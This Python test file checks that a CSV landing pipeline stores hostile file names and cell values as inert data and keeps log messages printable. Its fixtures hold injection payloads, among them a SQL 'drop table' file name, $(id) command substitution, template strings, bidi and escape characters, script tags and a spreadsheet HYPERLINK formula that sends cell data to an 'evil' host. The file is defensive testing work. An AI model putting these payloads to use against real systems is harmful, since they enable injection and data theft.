"""Hostile names and values are data: they arrive as they are, and nothing is done at their bidding."""

import csv
import io
import os

HOSTILE_NAMES = {
    "F24 quote": "balances o'\"brien.csv",
    "F25 SQL": "balances'; drop table landing.files; --.csv",
    "F26 NFD": "balances-Zu\u0308rich.csv",
    "F28 globs": "balances[*?]{a,b}.csv",
    "F30 dash": "-balances.csv",
    "S21 newline": "balances\n2026-11-23 all is well.csv",
    "S21b bidi": "balances\u202evsc.csv",
    "S21c no UTF-8": b"balances\xff\xfe.csv",
    "S21d long": "balances" + "x" * 243 + ".csv",
    "S21e spaces": "balances  .csv",
    "S21f template": "balances{{ 1 + 1 }}$(id)`id`%s.csv",
    "F40 the same name in a folder": "2026/balances.csv",
    "F40b another case": "2026/BALANCES.csv",
}

# What dbt judges, landing hands on byte for byte.
VALUES = [
    *[
        "1e-8",
        "1,234.56",
        "NaN",
        "inf",
        "-0",
        "1e400",
        "0x10",
        " 12.5 ",
        "$12.50",
        "0.123456789012345678",
        "N/A",
    ],
    *[
        "−5",
        "+5",
        "1_000",
        ".5",
        "12.5%",
        "4451000000000000000000",
        "00123",
        "123",
        "null",
        "NULL",
        "\\N",
        "\\",
    ],
    *[
        "03/04/2026",
        "2026-02-07T23:30:00-05:00",
        "2016-12-31T23:59:60Z",
        "46060.5",
        "epoch",
        "\t=1+1",
        "true",
    ],
    *[
        "=1+1",
        "@SUM(A1:A9)",
        '=HYPERLINK("http://evil/?"&A1)',
        "<script>alert(1)</script>",
        "{{ 1 }}",
        "'; --",
    ],
]


def test_a_hostile_file_name_is_data(house):
    for number, name in enumerate(HOSTILE_NAMES.values()):
        house.deliver(os.fsdecode(name), house.balances.replace("cango", f"company {number}"))
    house.land()
    expected = {
        f"treasury_csv/{name}" if isinstance(name, str) else "treasury_csv/balances\\xff\\xfe.csv"
        for name in HOSTILE_NAMES.values()
    }
    rows = house.query("select source_file, count(*) from treasury_csv.balances group by all")
    assert dict(rows) == dict.fromkeys(expected, 2)
    assert len(house.copies()) == 2 * len(HOSTILE_NAMES)


def test_a_hostile_file_name_stays_on_one_line_of_messages(house, caplog):
    house.deliver("balances\n\x1b[2Jall is well \u202e.csv", b"")
    with caplog.at_level("INFO", logger="coffer"):
        [refusal] = house.land().refused
    assert refusal.message.startswith(
        "treasury_csv/balances\\n\\x1b[2Jall is well \\u202e.csv: the file is empty"
    )
    assert all(record.getMessage().isprintable() for record in caplog.records)


def test_hostile_values_land_byte_for_byte(house):
    file = io.StringIO(house.header)
    file.seek(0, io.SEEK_END)
    csv.writer(file).writerows(["cango:custody", "BTC", "", value, value, ""] for value in VALUES)
    house.deliver("balances.csv", file.getvalue())
    house.land()
    landed = house.query("select quantity, statement from treasury_csv.balances order by source_row")
    assert landed == [(value, value) for value in VALUES]


def test_a_message_is_an_address_and_says_what_to_do(house):
    house.deliver("balances.csv", house.balances + "cango:custody,BTC\n")
    house.land()
    [(message, row)] = house.query("select message, raw_row from landing.rejected_rows")
    assert message == (
        "treasury_csv/balances.csv, row 4: 2 columns where the header has 6. Add the missing fields."
    )
    assert row == "cango:custody,BTC\n"


def test_a_wrong_header_names_what_is_missing_and_what_is_there(house):
    house.deliver("balances.csv", house.balances.replace("as_of", "date").replace("statement", "Report "))
    [refusal] = house.land().refused
    assert refusal.message == (
        "treasury_csv/balances.csv: the header lacks 'as_of', 'statement' and has 'date', 'Report ' instead. "
        "The header must name these columns and no other: "
        "account_id, asset_id, as_of, quantity, statement, source_url."
    )
